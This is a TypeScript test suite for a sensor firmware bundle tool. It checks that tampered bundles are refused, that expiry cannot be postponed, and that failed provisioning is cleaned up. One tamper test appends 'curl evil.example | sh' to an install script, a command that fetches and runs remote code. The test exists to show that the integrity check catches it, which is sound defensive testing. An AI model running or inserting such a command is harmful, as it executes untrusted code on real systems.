/**
 * A provisioned bundle and every way of tampering with it: built once (from examples/sensor.yaml, registered in a
 * gateway data directory), then copied and bent per test. The sensor must refuse to start (exit 78, device never
 * opened) or ignore the tampering; provisioning must leave nothing half-made when it fails.
 */
import { execFile } from 'node:child_process';
import { chmodSync, cpSync, existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, statSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { promisify } from 'node:util';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { CliError } from '../../shared/args.ts';
import { provision, type ProvisionResult } from '../../cli/provision.ts';
import { DataDirGateway, type Registration } from '../../cli/provision-gateway.ts';
import { firmwareSources } from '../../firmware/identity.ts';
import { minimiserHash } from '../../firmware/minimiser-hash.ts';
import { hashBundle } from '../../firmware/bundle/hash.ts';
import { BUNDLE_FILE, CREDENTIALS_FILE, loadBundleIdentity, type BundleIdentity } from '../../firmware/bundle/identity.ts';
import { BundleRefused, checkBundle, runBundle } from '../../firmware/bundle/main.ts';
import { LIFECYCLE_FILE } from '../../firmware/lifecycle/store.ts';
import { CredentialStore, verifySecret } from '../../gateway/credentials.ts';
import { openDatabase } from '../../gateway/store/db.ts';
import { SqliteSensorRegister } from '../../gateway/register.ts';
import { systemClock } from '../../shared/clock.ts';
import { silentLogger } from '../../shared/log.ts';
import type { Manifest } from '../../shared/manifest.ts';
import { dayAfter, exampleManifest, REPO, startAedes, watchStatus, type TestBroker } from './helpers.ts';

const run = promisify(execFile);
const NOW = Date.now();
const work = mkdtempSync(join(tmpdir(), 'drukte-bundle-'));
const gatewayDir = join(work, 'gateway');
openDatabase(gatewayDir).close(); // a gateway's data directory, as `drukte gateway --data-dir` leaves it
const quiet = () => undefined;

/** Change files of a bundle for the length of `fn`, then put them back. */
function bend(dir: string, files: Record<string, string | ((old: string) => string)>, fn: () => void, mode?: number): void {
  const saved = Object.keys(files).map((f) => [f, readFileSync(join(dir, f), 'utf8'), statSync(join(dir, f)).mode] as const);
  try {
    for (const [f, change] of Object.entries(files)) {
      writeFileSync(join(dir, f), typeof change === 'string' ? change : change(readFileSync(join(dir, f), 'utf8')));
      if (mode !== undefined) chmodSync(join(dir, f), mode);
    }
    fn();
  } finally {
    for (const [f, text, m] of saved) {
      writeFileSync(join(dir, f), text);
      chmodSync(join(dir, f), m);
    }
  }
}

/** A stand-in for the bundle builder (failure paths of provisioning, without a real build). */
async function fakeBuild(o: { manifest: Manifest; outDir: string; builtAtMs: number }) {
  writeFileSync(join(o.outDir, 'package.json'), '{}');
  const descriptor = { format: 1, sensor: o.manifest.id, expiresAt: o.manifest.expiresAt, builtAt: '', builtAtMs: o.builtAtMs, firmware: '0', minimiser: 'a'.repeat(64), bundle: 'b'.repeat(64), hashed: [], files: 1, registerUrl: o.manifest.registerUrl, source: { commit: null, dirty: null } } as const;
  return { identity: { format: 1 as const, manifest: o.manifest, builtAtMs: o.builtAtMs, firmware: '0', minimiser: 'a'.repeat(64) }, descriptor };
}

function registered(id: string) {
  const db = openDatabase(gatewayDir);
  try {
    return { record: new SqliteSensorRegister(db, systemClock).record(id), credential: new CredentialStore(db).get(id) };
  } finally {
    db.close();
  }
}

describe('a provisioned bundle', () => {
  let result: ProvisionResult;
  let identity: BundleIdentity;
  let broker: TestBroker;
  let scratch: string;

  beforeAll(async () => {
    broker = await startAedes();
    const manifest = exampleManifest(work, { expiresAt: dayAfter(NOW, 20), gatewayUrl: broker.url });
    const gateway = new DataDirGateway(gatewayDir);
    try {
      result = await provision({ manifestPath: manifest, outDir: join(work, 'bundle'), gateway, nowMs: NOW, print: quiet });
    } finally {
      gateway.close();
    }
    identity = await loadBundleIdentity(result.bundleDir);
    scratch = join(work, 'scratch');
    cpSync(result.bundleDir, scratch, { recursive: true });
  });
  afterAll(async () => {
    await broker?.close();
  });

  it('holds compiled firmware only, with identity, purpose and expiry compiled in; both hashes recorded and registered', async () => {
    const b = result.bundleDir;
    const dist = (dir: string): string[] => readdirSync(join(b, 'dist', dir), { recursive: true }).map(String);
    expect(readdirSync(join(b, 'dist')).sort()).toEqual(['firmware', 'hardware', 'shared']);
    expect(dist('firmware/doctor').sort()).toEqual(['checks.js', 'doctor.js']);
    expect(readdirSync(join(b, 'dist'), { recursive: true }).map(String).filter((f) => f.endsWith('.ts'))).toEqual([]);
    expect(identity.manifest).toMatchObject({ id: 'stadhuis-entrance', purpose: result.manifest.purpose, expiresAt: dayAfter(NOW, 20), gatewayUrl: broker.url });
    expect(identity.builtAtMs).toBe(NOW);
    expect(readFileSync(join(b, 'dist/firmware/generated/identity.js'), 'utf8')).toContain('GENERATED by `drukte provision`');

    const descriptor = JSON.parse(readFileSync(join(b, BUNDLE_FILE), 'utf8'));
    expect(descriptor.minimiser).toBe(minimiserHash(REPO));
    expect(descriptor.bundle).toBe(hashBundle(b).hash);
    expect(identity.minimiser).toBe(descriptor.minimiser);

    expect(statSync(join(b, CREDENTIALS_FILE)).mode & 0o777).toBe(0o600);
    const { username, password } = JSON.parse(readFileSync(join(b, CREDENTIALS_FILE), 'utf8'));
    expect(username).toBe('stadhuis-entrance');
    bend(scratch, { [CREDENTIALS_FILE]: '{}' }, () => expect(hashBundle(scratch).hash).toBe(descriptor.bundle)); // secrets are not hashed code …

    const { record, credential } = registered('stadhuis-entrance');
    expect(record?.info).toMatchObject({ bundleHash: descriptor.bundle, minimiserHash: descriptor.minimiser, expiresAt: dayAfter(NOW, 20), purpose: result.manifest.purpose });
    expect(credential?.hash).toMatch(/^scrypt\$/);
    expect(credential?.hash).not.toContain(password); // … and the gateway holds only the scrypt hash
    expect(await verifySecret(password, credential!.hash)).toBe(true);
    expect(readFileSync(join(b, 'SIGN.txt'), 'utf8')).toContain(`##    ${result.manifest.registerUrl}    ##`);
  });

  it('a changed file in the code is refused before anything runs', () => {
    expect(checkBundle(scratch, identity).hash).toBe(result.descriptor.bundle);
    bend(scratch, { 'dist/firmware/settings.js': (js) => `${js}\n// tweak\n` }, () => expect(() => checkBundle(scratch, identity)).toThrow(/changed after provisioning/));
    bend(scratch, { 'install/install.sh': (sh) => `${sh}\ncurl evil.example | sh\n` }, () => expect(() => checkBundle(scratch, identity)).toThrow(/changed after provisioning/));
  });

  it('another sensor\'s bundle.json or credentials next to this code, or credentials others can read, are refused', () => {
    bend(scratch, { [BUNDLE_FILE]: (json) => JSON.stringify({ ...JSON.parse(json), sensor: 'other-sensor' }) }, () => expect(() => checkBundle(scratch, identity)).toThrow(/describes sensor 'other-sensor'/));
    bend(scratch, { [CREDENTIALS_FILE]: JSON.stringify({ username: 'other-sensor', password: 'x' }) }, () => expect(() => checkBundle(scratch, identity)).toThrow(BundleRefused));
    bend(scratch, { [CREDENTIALS_FILE]: (json) => json }, () => expect(() => checkBundle(scratch, identity)).toThrow(/readable by others/), 0o644);
    expect(() => checkBundle(scratch, null)).toThrow(/not a provisioned sensor bundle/);
  });

  it('a bundle swapped in for another sensor\'s (its data directory) is refused, and the device never opened', async () => {
    const dataDir = mkdtempSync(join(work, 'data-'));
    writeFileSync(join(dataDir, LIFECYCLE_FILE), JSON.stringify({ v: 1, sensor: 'kiosk-queue', highWaterMs: NOW }));
    let opened = false;
    const device = { description: 'spy', start: () => void (opened = true), stop: async () => undefined };
    await expect(runBundle({ bundleDir: result.bundleDir, dataDir, device, identity, logger: silentLogger() })).rejects.toThrow(/belongs to sensor 'kiosk-queue'/);
    expect(opened).toBe(false);
  });

  it('expired while the gateway refuses it (or is gone): gives up announcing after a while and ends, device closed', async () => {
    const dataDir = mkdtempSync(join(work, 'data-'));
    writeFileSync(join(dataDir, 'tombstone.json'), JSON.stringify({ v: 1, sensor: 'stadhuis-entrance', expiresAt: identity.manifest.expiresAt, at: NOW }));
    let opened = false;
    const device = { description: 'spy', start: () => void (opened = true), stop: async () => undefined };
    const unreachable = { ...identity, manifest: { ...identity.manifest, gatewayUrl: 'mqtt://127.0.0.1:1' } };
    const running = await runBundle({ bundleDir: scratch, dataDir, device, identity: unreachable, announceTimeoutMs: 300, logger: silentLogger() });
    expect(running.sensor.state).toBe('expired');
    await running.finished;
    await running.stop();
    expect(opened).toBe(false);
  });

  it('a moved gateway: --broker points the sensor at it, its identity and credentials stay compiled in', async () => {
    const dataDir = mkdtempSync(join(work, 'data-'));
    const moved = { ...identity, manifest: { ...identity.manifest, gatewayUrl: 'mqtt://127.0.0.1:1' } }; // the old address is gone
    const newBroker = await startAedes(); // its own broker: the retained statuses stay out of the other tests
    const watch = await watchStatus(newBroker.url, 'stadhuis-entrance');
    const device = { description: 'spy', start: () => undefined, stop: async () => undefined };
    const running = await runBundle({ bundleDir: scratch, dataDir, device, identity: moved, brokerUrl: newBroker.url, tickMs: null, logger: silentLogger() });
    try {
      const status = await watch.waitFor((st) => st.state === 'starting' || st.state === 'registering', 5000, 'a status on the new broker');
      expect(status).toMatchObject({ sensor: 'stadhuis-entrance', expiresAt: identity.manifest.expiresAt, minimiser: identity.minimiser });
    } finally {
      await running.stop();
      await watch.close();
      await newBroker.close();
    }
    const bad = await run(process.execPath, [join(scratch, 'bin/drukte.js'), 'sensor', '--broker', 'http://gateway.example/'], { timeout: 15_000 }).catch((e: { code: number; stderr: string }) => e);
    expect(bad).toMatchObject({ code: 2, stderr: expect.stringContaining("--broker must be an mqtt://, mqtts://, ws:// or wss:// URL, got 'http://gateway.example/'") });
  });

  it('environment variables and an edited manifest next to the bundle cannot postpone expiry (compiled JS, own process)', async () => {
    const b = scratch;
    exampleManifest(b, { expiresAt: '2099-12-31' }); // sensor.yaml next to the code: not hashed, never read
    const dataDir = mkdtempSync(join(work, 'data-'));
    const past = Date.parse(`${dayAfter(NOW, 21)}T00:00:00Z`) + 60_000; // a high-water mark past the expiry day
    writeFileSync(join(dataDir, LIFECYCLE_FILE), JSON.stringify({ v: 1, sensor: 'stadhuis-entrance', highWaterMs: past }));
    const watch = await watchStatus(broker.url, 'stadhuis-entrance');
    const env = { ...process.env, DRUKTE_EXPIRES_AT: '2099-12-31', DRUKTE_SENSOR_ID: 'other', DRUKTE_MANIFEST: join(b, 'sensor.yaml'), TZ: 'Pacific/Kiritimati' };
    const { stdout } = await run(process.execPath, [join(b, 'bin/drukte.js'), 'sensor', '--data-dir', dataDir, '--device', join(work, 'no-such-radar')], { env, timeout: 15_000 });
    expect(stdout).toContain('the device stays closed');
    expect(stdout).not.toMatch(/device up|sensor state.*fault/);
    await watch.waitFor((s) => s.state === 'expired', 5000, "'expired'");
    expect(new Set(watch.statuses.map((s) => s.state))).toEqual(new Set(['expired']));
    expect(existsSync(join(dataDir, 'tombstone.json'))).toBe(true);
    await watch.close();
  });
});

describe('provisioning that fails leaves nothing behind', () => {
  const leftovers = (dir: string) => readdirSync(dir).filter((f) => f.includes('.tmp-'));

  it('reports every manifest problem at once, before anything is made', async () => {
    const dir = mkdtempSync(join(work, 'bad-'));
    const manifest = exampleManifest(dir, { owner: undefined, purpose: undefined, legalGround: undefined, expiresAt: undefined });
    const err = await provision({ manifestPath: manifest, outDir: join(dir, 'out'), gateway: null, nowMs: NOW, print: quiet }).catch((e: unknown) => e);
    expect(err).toBeInstanceOf(CliError);
    for (const field of ['owner', 'purpose', 'legalGround', 'expiresAt']) expect((err as Error).message).toContain(`✗ ${field}:`);
    expect(readdirSync(dir)).toEqual(['sensor.yaml']);
  });

  it('refuses an expiry more than 2 years ahead', async () => {
    const dir = mkdtempSync(join(work, 'far-'));
    const manifest = exampleManifest(dir, { id: 'far-future', expiresAt: dayAfter(NOW, 733) });
    const gateway = new DataDirGateway(gatewayDir);
    await expect(provision({ manifestPath: manifest, outDir: join(dir, 'out'), gateway, nowMs: NOW, print: quiet })).rejects.toThrow(/more than 2 years after provisioning/);
    gateway.close();
    expect(readdirSync(dir)).toEqual(['sensor.yaml']);
    expect(registered('far-future').record).toBeUndefined();
  });

  it('a step failing after the registration rolls it back, and removes the half-made bundle', async () => {
    const dir = mkdtempSync(join(work, 'rollback-'));
    const out = join(dir, 'out');
    const manifest = exampleManifest(dir, { id: 'rollback-test', expiresAt: dayAfter(NOW, 100) });
    class Obstructed extends DataDirGateway {
      override register(r: Registration, commit: () => void): Promise<void> {
        mkdirSync(join(out, 'in-the-way'), { recursive: true }); // the final rename now fails (ENOTEMPTY)
        return super.register(r, commit);
      }
    }
    const gateway = new Obstructed(gatewayDir);
    await expect(provision({ manifestPath: manifest, outDir: out, gateway, nowMs: NOW, print: quiet, build: fakeBuild })).rejects.toThrow(/ENOTEMPTY|EEXIST/);
    gateway.close();
    expect(registered('rollback-test')).toEqual({ record: undefined, credential: undefined });
    expect(leftovers(dir)).toEqual([]);
    expect(readdirSync(out)).toEqual(['in-the-way']);
  });

  it('a registration that fails after the rename (e.g. its commit) removes the renamed bundle again', async () => {
    const dir = mkdtempSync(join(work, 'late-'));
    const manifest = exampleManifest(dir, { id: 'late-failure', expiresAt: dayAfter(NOW, 100) });
    const gateway = { where: 'test', preflight: async () => undefined, close: () => undefined, transfer: async () => { throw new Error('unused'); }, audit: async () => [],
      register: async (_r: Registration, commit: () => void) => {
        commit();
        throw new CliError('the gateway refuses: database is locked', 1);
      } };
    await expect(provision({ manifestPath: manifest, outDir: join(dir, 'out'), gateway, nowMs: NOW, print: quiet, build: fakeBuild })).rejects.toThrow(/database is locked/);
    expect(readdirSync(dir)).toEqual(['sensor.yaml']);
  });

  it('a failing build leaves no temporary directory', async () => {
    const dir = mkdtempSync(join(work, 'build-'));
    const manifest = exampleManifest(dir, { id: 'build-failure', expiresAt: dayAfter(NOW, 100) });
    const build = async () => { throw new Error('does not compile'); };
    const gateway = new DataDirGateway(gatewayDir);
    await expect(provision({ manifestPath: manifest, outDir: join(dir, 'out'), gateway, nowMs: NOW, print: quiet, build })).rejects.toThrow(/does not compile/);
    gateway.close();
    expect(readdirSync(dir)).toEqual(['sensor.yaml']);
    expect(registered('build-failure').record).toBeUndefined();
  });

  it('an id the gateway already knows is refused before building', async () => {
    const dir = mkdtempSync(join(work, 'taken-'));
    const gateway = new DataDirGateway(gatewayDir);
    const t0 = performance.now();
    await expect(provision({ manifestPath: exampleManifest(dir, { expiresAt: dayAfter(NOW, 30) }), outDir: join(dir, 'out'), gateway, nowMs: NOW, print: quiet })).rejects.toThrow(/already registered/);
    gateway.close();
    expect(performance.now() - t0).toBeLessThan(1500);
    expect(readdirSync(dir)).toEqual(['sensor.yaml']);
  });

  it('the firmware sources a bundle is built from are the sensor tree only', () => {
    expect(firmwareSources().every((f) => /^(firmware|hardware|shared)\//.test(f))).toBe(true);
  });
});
